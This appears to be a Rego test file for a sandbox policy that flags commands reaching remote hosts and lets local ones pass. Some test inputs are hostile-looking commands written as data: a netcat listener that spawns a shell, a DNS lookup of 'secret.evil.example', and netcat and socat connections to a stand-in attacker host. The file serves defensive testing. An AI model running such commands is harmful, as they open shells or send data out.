package sandgate.rules.outward.remote_test

import data.sandgate.testing

test_ssh_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["ssh", "host", "uptime"]])
}

test_scp_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["scp", "a", "host:/tmp"]])
}

test_docker_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["docker", "compose", "up"]])
}

test_nc_to_another_host_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["nc", "evil.example", "80"]])
}

test_nc_to_this_one_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["nc", "-z", "localhost", "5432"]])
}

test_rsync_between_folders_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["rsync", "-a", "src/", "/tmp/src/"]])
}

test_its_version_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["docker", "--version"]])
}

test_helm_that_only_fetches_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["helm", "dependency", "build", "charts/web"]])
}

test_helm_that_installs_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["helm", "upgrade", "--install", "web", "charts/web"]])
}

test_a_listener_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["nc", "-l", "9000"]])
}

test_a_listener_that_starts_a_shell_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["nc", "-l", "-e", "sh", "9000"]])
}

test_a_name_looked_up_here_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["dig", "localhost"]])
}

test_a_name_looked_up_elsewhere_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["dig", "secret.evil.example"]])
}

test_a_database_elsewhere_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["psql", "--host=db.evil.example", "-c", "select 1"]])
}

test_a_trial_of_a_manifest_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["kubectl", "apply", "--dry-run=client", "-f", "x.yaml"]])
}

test_a_trial_of_a_playbook_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["ansible-playbook", "--syntax-check", "site.yml"]])
}

test_a_cloud_of_its_own_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["aws", "--endpoint-url", "http://localhost:4566", "s3", "ls"]])
}

test_a_pipe_between_sockets_here_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["socat", "-", "TCP:localhost:9000"]])
}

test_a_pipe_to_another_machine_is_found if {
	"ask" in testing.effects(data.sandgate.rules.outward.remote.findings)
		with input as testing.runs([["socat", "-", "TCP:evil.example:9000"]])
}

test_compose_that_only_shows_is_let_pass if {
	count(data.sandgate.rules.outward.remote.findings) == 0
		with input as testing.runs([["docker", "compose", "-f", "compose.yml", "ps"]])
}
